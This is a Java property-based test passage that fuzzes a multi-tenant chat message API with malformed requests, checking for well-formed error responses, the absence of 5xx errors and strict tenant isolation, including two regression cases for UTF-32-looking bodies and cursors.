package dev.chathistory.messageapi;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPResponse;
import com.amazonaws.services.lambda.runtime.serialization.PojoSerializer;
import com.amazonaws.services.lambda.runtime.serialization.events.LambdaEventSerializers;
import com.fasterxml.jackson.core.StreamReadFeature;
import com.fasterxml.jackson.core.json.JsonReadFeature;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.chathistory.messageapi.testing.ApiEvent;
import dev.chathistory.messageapi.testing.TestBackends;
import dev.chathistory.shared.attachments.Attachment;
import dev.chathistory.shared.attachments.Blob;
import dev.chathistory.shared.attachments.BlobId;
import dev.chathistory.shared.attachments.ImageType;
import dev.chathistory.shared.config.JobsConfig;
import dev.chathistory.messageapi.http.ErrorCode;
import dev.chathistory.shared.jobs.Job;
import dev.chathistory.shared.jobs.JobOutcome;
import dev.chathistory.shared.jobs.JobRequest;
import dev.chathistory.shared.jobs.JobType;
import dev.chathistory.shared.lambda.LocalLambdaContext;
import dev.chathistory.shared.model.ChatRef;
import dev.chathistory.shared.model.IdempotencyRecord;
import dev.chathistory.shared.model.Message;
import dev.chathistory.shared.model.UserRef;
import dev.chathistory.shared.testing.HeldItems;
import dev.chathistory.shared.testing.HeldItems.HeldItem;
import dev.chathistory.shared.testing.MutableClock;
import dev.chathistory.shared.testing.RecordingMetrics;
import dev.chathistory.shared.testing.TestConfigs;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.OptionalLong;
import java.util.Set;
import java.util.StringJoiner;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.EdgeCasesMode;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.statistics.Statistics;

/**
 * Throws generated, mostly hostile requests at {@link MessageApiHandler} on the in-memory fakes.
 * Whatever arrives, the API must answer with a well-formed response and never a 5xx, and may only
 * ever touch the data of the tenant the request acts for.
 *
 * <p>Each try builds a fresh world (the fakes seeded for the acting tenant and for a foreign
 * tenant that reuses the same chat, message, user, job and attachment ids, plus some ids only the
 * foreign tenant has), then sends one to three requests. Most are a well-formed request for one
 * route with up to three hostile mutations, so that they get past the first checks and reach the
 * deeper ones; the rest are noise. Coverage checks at the end prove the generators really reach
 * every route with both successes and refusals, so the property cannot pass by bouncing
 * everything off the router.
 *
 * <p>To reproduce a failure, jqwik prints the seed (put it in {@code @Property(seed = ...)}); by
 * default it also re-runs the failing sample first on the next run (its database is kept under
 * {@code target/}, see the surefire configuration in this module's pom).
 */
class HostileInputPropertyTest {

    // ---------------------------------------------------------------- the seeded world

    private static final Instant NOW = Instant.parse("2026-11-28T10:00:00Z");
    private static final Instant SEEDED_AT = NOW.minus(Duration.ofHours(1));

    /** Another tenant, seeded with the same ids as the acting one. */
    static final String FOREIGN_TENANT = "tenant-foreign";
    static final String OWN_CONTENT = "OWNxTENANTxCONTENT";
    static final String FOREIGN_CONTENT = "FOREIGNxTENANTxCONTENT";
    /** The marker each seeded tenant's content carries; no other tenant's response may show it. */
    static final Map<String, String> CONTENT_MARKERS = Map.of(TestConfigs.TENANT, OWN_CONTENT,
            FOREIGN_TENANT, FOREIGN_CONTENT);

    static final String CHAT = "chat-42";
    static final String USER = "user-7";
    static final String LIVE = "01JDXK3M7Q8Z5V2N4T6R9W1Y0A";
    static final String EDITED = "01JDXK3M7Q8Z5V2N4T6R9W1Y0B";
    static final String DELETED = "01JDXK3M7Q8Z5V2N4T6R9W1Y0C";
    static final String KEYED = "01JDXK3M7Q8Z5V2N4T6R9W1Y0D";
    static final String SEEDED_IDEMPOTENCY_KEY = "seeded-key-1";
    static final String PENDING_ATTACHMENT = "01JDXK4A2B3C4D5E6F7G8H9J0A";
    static final String READY_ATTACHMENT = "01JDXK4A2B3C4D5E6F7G8H9J0B";
    static final String QUEUED_JOB = "01JDXK5J0B00000000000000QA";
    static final String FINISHED_JOB = "01JDXK5J0B00000000000000FA";

    /** Ids only the foreign tenant has: asking for them as the acting tenant must find nothing. */
    static final String FOREIGN_ONLY_CHAT = "chat-foreign-only";
    static final String FOREIGN_ONLY_USER = "user-foreign-only";
    static final String FOREIGN_ONLY_MESSAGE = "01JDXK3M7Q8Z5V2N4T6R9W1YFF";
    static final String FOREIGN_ONLY_ATTACHMENT = "01JDXK4A2B3C4D5E6F7G8H9JFF";
    static final String FOREIGN_ONLY_JOB = "01JDXK5J0B00000000000000FF";

    /**
     * The tenant a request acts for: every check of tenant isolation asks this. It is what the
     * event's {@code requestContext.authorizer.lambda.tenantId} says (mostly the configured
     * tenant, sometimes the foreign one, an invalid one or none), the only place the handler
     * takes a tenant from.
     */
    static String actingTenantOf(HostileRequest request) {
        return request.authorizerTenant();
    }

    /** Fakes seeded for two tenants, and the handler on top of them. One per try. */
    static final class World {
        final TestBackends backends = TestBackends.create();
        final MessageApiHandler handler = new MessageApiHandler(
                MessageApi.create(TestConfigs.inMemory(), JobsConfig.of("queue", "bucket"), backends.backends(),
                        new RecordingMetrics(), new MutableClock(NOW)),
                () -> { });

        World() {
            seedTenant(TestConfigs.TENANT, OWN_CONTENT, "a0");
            seedTenant(FOREIGN_TENANT, FOREIGN_CONTENT, "f0");
            seedForeignOnlyData();
        }

        /** The same ids in every tenant, so a request routed to the wrong tenant would find data. */
        private void seedTenant(String tenant, String content, String blobByte) {
            ChatRef chat = new ChatRef(tenant, CHAT);
            var messages = backends.messages();
            messages.insert(chat, message(LIVE, content + " live"));
            Message edited = message(EDITED, content + " first version");
            messages.insert(chat, edited);
            messages.replace(chat, edited.nextVersion(content + " edited", metadata(content), false, SEEDED_AT),
                    1, edited.toVersion());
            Message deleted = message(DELETED, content + " deleted");
            messages.insert(chat, deleted);
            messages.replace(chat, deleted.nextVersion(deleted.text(), null, true, SEEDED_AT), 1,
                    deleted.toVersion());
            // The fingerprint matches no request, so reusing the key is always a 422.
            messages.claimIdempotencyKey(chat, new IdempotencyRecord(SEEDED_IDEMPOTENCY_KEY, "0".repeat(64), KEYED,
                    SEEDED_AT, SEEDED_AT.plus(Duration.ofHours(24))), SEEDED_AT);
            messages.insert(chat, message(KEYED, content + " keyed"));

            UserRef user = new UserRef(tenant, USER);
            backends.users().putSettings(user, settings(content), OptionalLong.empty(), SEEDED_AT);
            backends.users().rememberChat(user, CHAT, SEEDED_AT);
            backends.users().recordActivity(user, SEEDED_AT, 4, "0");

            backends.jobs().create(Job.queued(new JobRequest(QUEUED_JOB, JobType.EXPORT, tenant, USER, null),
                    SEEDED_AT), SEEDED_AT.plus(Duration.ofDays(7)));
            JobRequest finished = new JobRequest(FINISHED_JOB, JobType.EXPORT, tenant, USER, null);
            backends.jobs().start(finished, 1, SEEDED_AT, SEEDED_AT.plus(Duration.ofDays(7)));
            backends.jobs().succeed(finished, new JobOutcome(Map.of("messages", 4L), "exports/" + content + ".gz"),
                    SEEDED_AT, SEEDED_AT.plus(Duration.ofDays(7)));

            var attachments = backends.attachments();
            attachments.createPending(chat, Attachment.pending(CHAT, LIVE, PENDING_ATTACHMENT, ImageType.PNG, 10,
                    content + " pending.png", SEEDED_AT), SEEDED_AT.plus(Duration.ofDays(1)));
            BlobId blob = new BlobId(chat.tenantId(), blobByte.repeat(32));
            attachments.createBlob(Blob.unstored(blob, ImageType.PNG, 480, 640, 480, "image/jpeg", SEEDED_AT));
            attachments.markBlobStored(blob);
            Attachment ready = Attachment.pending(CHAT, LIVE, READY_ATTACHMENT, ImageType.PNG, 480,
                    content + " ready.png", SEEDED_AT);
            attachments.createPending(chat, ready, SEEDED_AT.plus(Duration.ofDays(1)));
            attachments.markReady(chat, ready.ready(attachments.findBlob(blob).orElseThrow(), SEEDED_AT));
        }

        private void seedForeignOnlyData() {
            ChatRef chat = new ChatRef(FOREIGN_TENANT, CHAT);
            backends.messages().insert(chat, message(FOREIGN_ONLY_MESSAGE, FOREIGN_CONTENT + " only"));
            backends.messages().insert(new ChatRef(FOREIGN_TENANT, FOREIGN_ONLY_CHAT),
                    message(LIVE, FOREIGN_CONTENT + " other chat"));
            backends.users().putSettings(new UserRef(FOREIGN_TENANT, FOREIGN_ONLY_USER), settings(FOREIGN_CONTENT),
                    OptionalLong.empty(), SEEDED_AT);
            backends.jobs().create(Job.queued(new JobRequest(FOREIGN_ONLY_JOB, JobType.ERASE, FOREIGN_TENANT,
                    FOREIGN_ONLY_USER, null), SEEDED_AT), SEEDED_AT.plus(Duration.ofDays(7)));
            backends.attachments().createPending(chat, Attachment.pending(CHAT, LIVE, FOREIGN_ONLY_ATTACHMENT,
                    ImageType.GIF, 10, FOREIGN_CONTENT + ".gif", SEEDED_AT), SEEDED_AT.plus(Duration.ofDays(1)));
        }

        private static Message message(String id, String text) {
            return Message.first(CHAT, id, USER, false, text, metadata(text), SEEDED_AT);
        }

        private static ObjectNode metadata(String content) {
            return JsonNodeFactory.instance.objectNode().put("note", content);
        }

        private static ObjectNode settings(String content) {
            return JsonNodeFactory.instance.objectNode().put("language", "de").put("note", content);
        }

        /** Sends one request as API Gateway and the Lambda runtime would, and keeps what came out. */
        Exchange send(HostileRequest request, String requestId) {
            APIGatewayV2HTTPEvent event = EVENT_SERIALIZER.fromJson(
                    new ByteArrayInputStream(request.toEventJson(requestId)));
            ByteArrayOutputStream logs = new ByteArrayOutputStream();
            PrintStream stdout = System.out;
            APIGatewayV2HTTPResponse response;
            // The handler logs one JSON line per request; kept per request to read the route it
            // matched, and so that 10,000 tries do not flood the build output.
            System.setOut(new PrintStream(logs, true, StandardCharsets.UTF_8));
            try {
                response = handler.handleRequest(event, new LocalLambdaContext());
            } catch (RuntimeException e) {
                throw new AssertionError("the handler threw (the caller would see a 5xx) for " + request, e);
            } finally {
                System.setOut(stdout);
            }
            assertThat(response).as("a response for %s", request).isNotNull();
            // What leaves the function: the runtime serialises the response object to JSON.
            ByteArrayOutputStream wire = new ByteArrayOutputStream();
            RESPONSE_SERIALIZER.toJson(response, wire);
            APIGatewayV2HTTPResponse sent = RESPONSE_SERIALIZER.fromJson(new ByteArrayInputStream(wire.toByteArray()));
            return new Exchange(request, requestId, sent.getStatusCode(),
                    sent.getHeaders() == null ? Map.of() : sent.getHeaders(), sent.getBody(),
                    logs.toString(StandardCharsets.UTF_8).lines().toList());
        }
    }

    /** One request and what came back: the response as sent, and the log lines it produced. */
    record Exchange(HostileRequest request, String requestId, int status, Map<String, String> headers, String body,
                    List<String> logLines) {

        String header(String name) {
            return headers.entrySet().stream().filter(e -> e.getKey().equalsIgnoreCase(name))
                    .map(Map.Entry::getValue).findFirst().orElse(null);
        }

        /** The "request handled" line of this request, parsed. */
        JsonNode requestLog() {
            return logLines.stream()
                    .filter(line -> line.contains("request handled"))
                    .map(line -> {
                        try {
                            return LOG_READER.readTree(line);
                        } catch (IOException e) {
                            throw new AssertionError("log line is not JSON: " + line, e);
                        }
                    })
                    .filter(json -> requestId.equals(json.path("correlation_id").asText()))
                    .findFirst()
                    .orElseThrow(() -> new AssertionError("no 'request handled' log line for " + requestId
                            + " among " + logLines));
        }

        @Override
        public String toString() {
            return request + "\n  -> " + status + " " + show(body, 300);
        }
    }

    // ---------------------------------------------------------------- the property

    // No jqwik edge cases: the generators list their own edge values, and jqwik's combined edge
    // cases would mostly come from the first route's arbitrary, skewing the mix towards it.
    @Property(tries = 10_000, edgeCases = EdgeCasesMode.NONE)
    void anyRequest_shouldGetAWellFormedAnswerAndNever5xx_andOnlyTouchItsOwnTenant(
            @ForAll("conversations") List<HostileRequest> requests) {
        World world = new World();
        Map<String, List<String>> before = TenantLedger.itemsByTenant(world.backends);

        for (int i = 0; i < requests.size(); i++) {
            Exchange exchange = world.send(requests.get(i), "req-hostile-" + i);
            assertWellFormed(exchange);
            JsonNode log = exchange.requestLog();
            assertThat(log.path("status").asInt()).as("logged status of %s", exchange).isEqualTo(exchange.status());
            // Unmatched requests carry any method; one bucket keeps the statistics report short.
            String route = log.path("route").asText();
            Statistics.label("route and outcome").collect(route.equals("unmatched") ? route
                    : log.path("method").asText() + " " + route, exchange.status() / 100 + "xx");
            Statistics.label("status").collect(exchange.status());
        }

        Set<String> actingTenants = requests.stream().map(HostileInputPropertyTest::actingTenantOf)
                .collect(Collectors.toSet());
        TenantLedger.assertOnlyActingTenantsChanged(before, TenantLedger.itemsByTenant(world.backends),
                actingTenants, requests);

        // The generators must reach every route with both outcomes, and the interesting refusals;
        // otherwise a green run would say little. Thresholds are far below the typical counts.
        Statistics.label("route and outcome").coverage(coverage -> {
            for (String route : ROUTES) {
                coverage.checkQuery(v -> v.get(0).equals(route) && v.get(1).equals("2xx")).count(n -> n >= 10);
                coverage.checkQuery(v -> v.get(0).equals(route) && v.get(1).equals("4xx")).count(n -> n >= 10);
            }
        });
        Statistics.label("status").coverage(coverage -> {
            for (int status : List.of(200, 201, 202, 400, 404, 405, 409, 412, 413, 415, 422, 428)) {
                coverage.check(status).count(n -> n >= 5);
            }
        });
    }

    private static void assertWellFormed(Exchange exchange) {
        int status = exchange.status();
        assertThat(status).as("status of %s", exchange).isBetween(200, 499);
        String acting = actingTenantOf(exchange.request());
        CONTENT_MARKERS.forEach((tenant, marker) -> {
            if (!tenant.equals(acting)) {
                assertThat(exchange.body()).as("body of %s", exchange).doesNotContain(marker);
            }
        });
        if (status >= 400) {
            assertErrorShape(exchange);
        } else if (status == 204) {
            assertThat(exchange.body()).as("204 body of %s", exchange).isNullOrEmpty();
        } else {
            assertThat(status).as("status of %s", exchange).isIn(200, 201, 202);
            assertThat(exchange.header("Content-Type")).as("content type of %s", exchange)
                    .startsWith("application/json");
            assertThat(strictJson(exchange)).as("2xx body of %s", exchange).isNotNull();
        }
    }

    /** Exactly {"error":{"code","message","requestId"}}, plus the documented numeric details. */
    private static void assertErrorShape(Exchange exchange) {
        JsonNode body = strictJson(exchange);
        assertThat(exchange.header("Content-Type")).as("content type of %s", exchange)
                .startsWith("application/json");
        assertThat(fieldNames(body)).as("top-level fields of %s", exchange).containsExactly("error");
        JsonNode error = body.path("error");
        assertThat(error.isObject()).as("error object of %s", exchange).isTrue();
        assertThat(error.path("code").isTextual() && !error.path("code").asText().isEmpty())
                .as("non-empty code in %s", exchange).isTrue();
        assertThat(error.path("message").isTextual() && !error.path("message").asText().isBlank())
                .as("message in %s", exchange).isTrue();
        assertThat(error.path("requestId").asText(null)).as("request id in %s", exchange)
                .isEqualTo(exchange.requestId());
        Set<String> details = new TreeSet<>(fieldNames(error));
        details.removeAll(Set.of("code", "message", "requestId"));
        assertThat(details).as("details in %s", exchange).isSubsetOf(ERROR_DETAILS);
        details.forEach(name -> assertThat(error.path(name).isIntegralNumber()).as("%s in %s", name, exchange)
                .isTrue());
        ErrorCode code = Arrays.stream(ErrorCode.values()).filter(c -> c.wireCode().equals(error.path("code").asText()))
                .findFirst().orElseThrow(() -> new AssertionError("undocumented error code in " + exchange));
        assertThat(code.httpStatus()).as("status matching the code in %s", exchange).isEqualTo(exchange.status());
        if (exchange.status() == 405) {
            assertThat(exchange.header("Allow")).as("Allow header of %s", exchange).isNotBlank();
        }
    }

    /**
     * The smallest requests the property found that get a 500 today, kept as examples so the
     * failure reads on its own. Bytes 00 11 00 00 make Jackson's encoding detection read the body
     * as UTF-32 (UCS-4) and then fail with a CharConversionException: an IOException, which
     * Json.parseRequest rethrows as UncheckedIOException instead of answering 400 invalid_json.
     */
    @Example
    void bodyThatLooksLikeBrokenUtf32_shouldBeRefusedAsInvalidJson_notA500() {
        HostileRequest request = HostileRequest.of("UTF-32 body", "POST", "/v1/chats/" + CHAT + "/messages")
                .withHeader("content-type", "application/json").withBody("ABEAAA==", true);

        Exchange exchange = new World().send(request, "req-utf32-body");

        assertWellFormed(exchange);
        assertThat(exchange.status()).isEqualTo(400);
        assertThat(exchange.body()).contains("\"invalid_json\"");
    }

    /** The same parser reads cursors: base64url "ABEAAA" is those four bytes, in a query string. */
    @Example
    void cursorThatDecodesToBrokenUtf32_shouldBeRefusedAsInvalidCursor_notA500() {
        HostileRequest request = HostileRequest.of("UTF-32 cursor", "GET", "/v1/chats/" + CHAT + "/messages")
                .withQuery("cursor", "ABEAAA");

        Exchange exchange = new World().send(request, "req-utf32-cursor");

        assertWellFormed(exchange);
        assertThat(exchange.status()).isEqualTo(400);
        assertThat(exchange.body()).contains("\"invalid_cursor\"");
    }

    private static final Set<String> ERROR_DETAILS = Set.of("currentVersion", "maxBytes", "maxAttachments");

    /** The body as one JSON document: not empty, no trailing data, no duplicate keys. */
    private static JsonNode strictJson(Exchange exchange) {
        assertThat(exchange.body()).as("body of %s", exchange).isNotBlank();
        try {
            JsonNode json = STRICT.readTree(exchange.body());
            assertThat(json.isMissingNode()).as("JSON in the body of %s", exchange).isFalse();
            return json;
        } catch (IOException e) {
            throw new AssertionError("body is not valid JSON in " + exchange, e);
        }
    }

    private static List<String> fieldNames(JsonNode node) {
        List<String> names = new ArrayList<>();
        node.fieldNames().forEachRemaining(names::add);
        return names;
    }

    // ---------------------------------------------------------------- self-checks of the harness

    @Example
    void generators_shouldKnowAWellFormedRequestForEveryRoute() {
        assertThat(WELL_FORMED.keySet()).containsExactlyInAnyOrderElementsOf(ROUTES);
    }

    @Example
    void tenantLedger_shouldSeeTheSeededItemsOfBothTenants_inEveryFake() {
        Map<String, List<String>> items = TenantLedger.itemsByTenant(new World().backends);

        for (String tenant : List.of(TestConfigs.TENANT, FOREIGN_TENANT)) {
            assertThat(items.get(tenant)).as("items of %s", tenant)
                    .anyMatch(i -> i.startsWith("messages.messages:"))
                    .anyMatch(i -> i.startsWith("messages.versions:"))
                    .anyMatch(i -> i.startsWith("messages.idempotency:"))
                    .anyMatch(i -> i.startsWith("users.settings:"))
                    .anyMatch(i -> i.startsWith("users.chats:"))
                    .anyMatch(i -> i.startsWith("jobs.jobs:"))
                    .anyMatch(i -> i.startsWith("attachments.attachments:"));
        }
    }

    @Example
    void tenantLedger_shouldFlagAnyChangeToAnotherTenantsData() {
        Set<String> acting = Set.of(TestConfigs.TENANT);
        ChatRef foreignChat = new ChatRef(FOREIGN_TENANT, CHAT);
        UserRef foreignUser = new UserRef(FOREIGN_TENANT, USER);
        List<java.util.function.Consumer<TestBackends>> foreignWrites = List.of(
                b -> b.messages().insert(foreignChat, World.message("01JDXK3M7Q8Z5V2N4T6R9W1Y99", "x")),
                b -> b.messages().deleteMessage(foreignChat, LIVE),
                b -> b.users().putSettings(foreignUser, World.settings("x"), OptionalLong.empty(), NOW),
                b -> b.users().rememberChat(foreignUser, "chat-new", NOW),
                b -> b.jobs().create(Job.queued(new JobRequest("job-new", JobType.ERASE, FOREIGN_TENANT, USER,
                        null), NOW), NOW.plusSeconds(60)),
                b -> b.queue().send(new JobRequest("job-new", JobType.ERASE, FOREIGN_TENANT, USER, null)),
                b -> b.attachments().createPending(foreignChat, Attachment.pending(CHAT, LIVE, "att-new",
                        ImageType.PNG, 1, null, NOW), NOW.plusSeconds(60)));

        for (var write : foreignWrites) {
            World world = new World();
            Map<String, List<String>> before = TenantLedger.itemsByTenant(world.backends);
            write.accept(world.backends);
            Map<String, List<String>> after = TenantLedger.itemsByTenant(world.backends);

            assertThatThrownBy(() -> TenantLedger.assertOnlyActingTenantsChanged(before, after, acting, List.of()))
                    .isInstanceOf(AssertionError.class);
        }

        World world = new World();
        Map<String, List<String>> before = TenantLedger.itemsByTenant(world.backends);
        world.backends.messages().insert(new ChatRef(TestConfigs.TENANT, CHAT),
                World.message("01JDXK3M7Q8Z5V2N4T6R9W1Y99", "own write"));
        TenantLedger.assertOnlyActingTenantsChanged(before, TenantLedger.itemsByTenant(world.backends), acting,
                List.of());
    }

    /**
     * Lists every item the fakes hold, through {@link HeldItems} (each fake says which tenants an
     * item names), and files it under that tenant. A fake that stores a new kind of item lists it
     * there, so nothing hides from the ledger; {@code HeldItemsTest} in shared checks each fake's
     * listing follows what it stores.
     */
    static final class TenantLedger {

        /** Items without a tenant: objects addressed by key alone, shared by design. */
        static final String SHARED = "(no tenant)";

        private TenantLedger() {
        }

        static Map<String, List<String>> itemsByTenant(TestBackends backends) {
            Map<String, List<String>> items = new TreeMap<>();
            Map<String, HeldItems> fakes = new LinkedHashMap<>();
            fakes.put("messages", backends.messages());
            fakes.put("users", backends.users());
            fakes.put("jobs", backends.jobs());
            fakes.put("queue", backends.queue());
            fakes.put("objects", backends.objects());
            fakes.put("attachments", backends.attachments());
            fakes.put("retention", backends.retention());
            fakes.put("branches", backends.branches());
            fakes.forEach((name, fake) -> {
                for (HeldItem item : fake.heldItems()) {
                    Set<String> tenants = new TreeSet<>(item.tenants());
                    String key = tenants.isEmpty() ? SHARED : tenants.size() == 1 ? tenants.iterator().next()
                            : "MIXED " + tenants;
                    items.computeIfAbsent(key, k -> new ArrayList<>()).add(name + "." + item.description());
                }
            });
            return items;
        }

        /**
         * Every tenant that is not acting must hold exactly what it held before; an item that
         * names two tenants at once is a leak in itself.
         */
        static void assertOnlyActingTenantsChanged(Map<String, List<String>> before, Map<String, List<String>> after,
                                                   Set<String> acting, Object context) {
            Set<String> tenants = new TreeSet<>(before.keySet());
            tenants.addAll(after.keySet());
            for (String tenant : tenants) {
                assertThat(tenant).as("an item names two tenants after %s", context).doesNotStartWith("MIXED ");
                if (tenant.equals(SHARED) || acting.contains(tenant)) {
                    continue;
                }
                assertThat(after.getOrDefault(tenant, List.of()))
                        .as("data of tenant %s after %s", tenant, context)
                        .containsExactlyInAnyOrderElementsOf(before.getOrDefault(tenant, List.of()));
            }
        }
    }

    // ---------------------------------------------------------------- the request, and the event carrying it

    private static final ObjectMapper PLAIN = new ObjectMapper();
    /** Writes every non-ASCII character as an escape, lone surrogates included: "\ud800". */
    private static final ObjectMapper ESCAPING = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII)
            .build();
    private static final ObjectMapper STRICT = JsonMapper.builder()
            .enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION)
            .enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS)
            .build();
    /**
     * Reads log lines. The logged method is the client's, and the JSON layout writes control
     * characters other than the usual ones (NUL, U+0001...) unescaped; API Gateway only passes
     * token methods, so this is tolerated here rather than failing every such try.
     */
    private static final ObjectMapper LOG_READER = JsonMapper.builder()
            .enable(JsonReadFeature.ALLOW_UNESCAPED_CONTROL_CHARS)
            .build();
    private static final PojoSerializer<APIGatewayV2HTTPEvent> EVENT_SERIALIZER =
            LambdaEventSerializers.serializerFor(APIGatewayV2HTTPEvent.class,
                    HostileInputPropertyTest.class.getClassLoader());
    private static final PojoSerializer<APIGatewayV2HTTPResponse> RESPONSE_SERIALIZER =
            LambdaEventSerializers.serializerFor(APIGatewayV2HTTPResponse.class,
                    HostileInputPropertyTest.class.getClassLoader());
    /** A sample event with the fields API Gateway always sends; each request overrides the rest. */
    private static final ObjectNode EVENT_TEMPLATE = eventTemplate();

    private static ObjectNode eventTemplate() {
        try {
            ObjectNode event = (ObjectNode) PLAIN.readTree(ApiEvent.fromFile("append-message.json").json());
            // The function also sits behind the catch-all route, where API Gateway names no parameters.
            event.put("routeKey", "$default");
            ((ObjectNode) event.get("requestContext")).put("routeKey", "$default");
            event.remove("pathParameters");
            ObjectNode headers = (ObjectNode) event.get("headers");
            headers.remove("content-type");
            headers.remove("idempotency-key");
            return event;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * One generated request. {@code origin} says how it was made (the route it started from and the
     * mutations applied), so a failing sample reads as a story. A null method, path or header value
     * is left out of the event, as if API Gateway had not sent it.
     */
    record HostileRequest(String origin, String method, String path, Map<String, String> query,
                          Map<String, String> headers, String body, boolean base64, String authorizerTenant) {

        static HostileRequest of(String origin, String method, String path) {
            return new HostileRequest(origin, method, path, Map.of(), Map.of(), null, false, TestConfigs.TENANT);
        }

        HostileRequest withAuthorizerTenant(String value) {
            return new HostileRequest(origin, method, path, query, headers, body, base64, value);
        }

        HostileRequest noting(String change) {
            return new HostileRequest(origin + " + " + change, method, path, query, headers, body, base64,
                    authorizerTenant);
        }

        HostileRequest withMethod(String value) {
            return new HostileRequest(origin, value, path, query, headers, body, base64, authorizerTenant);
        }

        HostileRequest withPath(String value) {
            return new HostileRequest(origin, method, value, query, headers, body, base64, authorizerTenant);
        }

        HostileRequest withQuery(String name, String value) {
            Map<String, String> copy = new LinkedHashMap<>(query);
            copy.put(name, value);
            return new HostileRequest(origin, method, path, Collections.unmodifiableMap(copy), headers, body, base64,
                    authorizerTenant);
        }

        HostileRequest withHeader(String name, String value) {
            Map<String, String> copy = new LinkedHashMap<>(headers);
            copy.put(name, value);
            return new HostileRequest(origin, method, path, query, Collections.unmodifiableMap(copy), body, base64,
                    authorizerTenant);
        }

        HostileRequest withoutHeader(String name) {
            Map<String, String> copy = new LinkedHashMap<>(headers);
            copy.keySet().removeIf(n -> n.equalsIgnoreCase(name));
            return new HostileRequest(origin, method, path, query, Collections.unmodifiableMap(copy), body, base64,
                    authorizerTenant);
        }

        HostileRequest withBody(String value, boolean encoded) {
            return new HostileRequest(origin, method, path, query, headers, value, encoded, authorizerTenant);
        }

        HostileRequest withJsonBody(JsonNode value, boolean escapeNonAscii) {
            return withHeader("content-type", "application/json").withBody(write(value, escapeNonAscii), false);
        }

        /** The body as a JSON object if it is one (duplicates resolved leniently), else null. */
        ObjectNode bodyObject() {
            if (body == null || base64) {
                return null;
            }
            try {
                return PLAIN.readTree(body) instanceof ObjectNode object ? object : null;
            } catch (IOException | RuntimeException e) {
                return null;
            }
        }

        /** The payload-2.0 event as JSON bytes, every non-ASCII character escaped as API Gateway may. */
        byte[] toEventJson(String requestId) {
            ObjectNode event = EVENT_TEMPLATE.deepCopy();
            ObjectNode context = (ObjectNode) event.get("requestContext");
            ObjectNode http = (ObjectNode) context.get("http");
            context.put("requestId", requestId);
            // The template event carries an authorizer already; a request without one has none.
            context.remove("authorizer");
            if (authorizerTenant != null) {
                context.putObject("authorizer").putObject("lambda").put("tenantId", authorizerTenant);
            }
            putOrRemove(http, "method", method);
            putOrRemove(http, "path", path);
            putOrRemove(event, "rawPath", path);
            ObjectNode eventHeaders = (ObjectNode) event.get("headers");
            headers.forEach((name, value) -> {
                if (value == null) {
                    eventHeaders.putNull(name);
                } else {
                    eventHeaders.put(name, value);
                }
            });
            if (query.isEmpty()) {
                event.remove("queryStringParameters");
                event.put("rawQueryString", "");
            } else {
                ObjectNode parameters = event.putObject("queryStringParameters");
                StringJoiner raw = new StringJoiner("&");
                query.forEach((name, value) -> {
                    if (value == null) {
                        parameters.putNull(name);
                    } else {
                        parameters.put(name, value);
                        raw.add(name + "=" + value);
                    }
                });
                event.put("rawQueryString", raw.toString());
            }
            putOrRemove(event, "body", body);
            event.put("isBase64Encoded", base64);
            try {
                return ESCAPING.writeValueAsBytes(event);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        private static void putOrRemove(ObjectNode node, String field, String value) {
            if (value == null) {
                node.remove(field);
            } else {
                node.put(field, value);
            }
        }

        @Override
        public String toString() {
            String queryText = query.entrySet().stream().map(e -> show(e.getKey(), 40) + "=" + show(e.getValue(), 80))
                    .collect(Collectors.joining("&"));
            String headerText = headers.entrySet().stream()
                    .map(e -> show(e.getKey(), 40) + ": " + show(e.getValue(), 80))
                    .collect(Collectors.joining(", ", "{", "}"));
            String tenant = TestConfigs.TENANT.equals(authorizerTenant) ? ""
                    : " (authorizer tenant " + show(authorizerTenant, 40) + ")";
            return "[" + origin + "]" + tenant + "\n  " + show(method, 40) + " " + show(path, 200)
                    + (queryText.isEmpty() ? "" : " ?" + queryText) + "\n  headers " + headerText
                    + "\n  body" + (base64 ? " (base64)" : "") + " " + show(body, 300);
        }
    }

    private static String write(JsonNode node, boolean escapeNonAscii) {
        try {
            return (escapeNonAscii ? ESCAPING : PLAIN).writeValueAsString(node);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A string for a failure report: control, non-ASCII and surrogate characters escaped, cut short. */
    static String show(String value, int max) {
        if (value == null) {
            return "null";
        }
        StringBuilder shown = new StringBuilder("\"");
        value.codePoints().limit(max).forEach(c -> {
            if (c == '"' || c == '\\') {
                shown.append('\\').append((char) c);
            } else if (c >= 0x20 && c < 0x7f) {
                shown.append((char) c);
            } else {
                for (char ch : Character.toChars(c)) {
                    shown.append(String.format("\\u%04x", (int) ch));
                }
            }
        });
        shown.append('"');
        return value.length() > max ? shown + "...(" + value.length() + " chars)" : shown.toString();
    }

    // ---------------------------------------------------------------- generators

    /** Every route the API serves, as "METHOD /template", asked of the API itself. */
    static final List<String> ROUTES = MessageApi.create(TestConfigs.inMemory(), JobsConfig.of("queue", "bucket"),
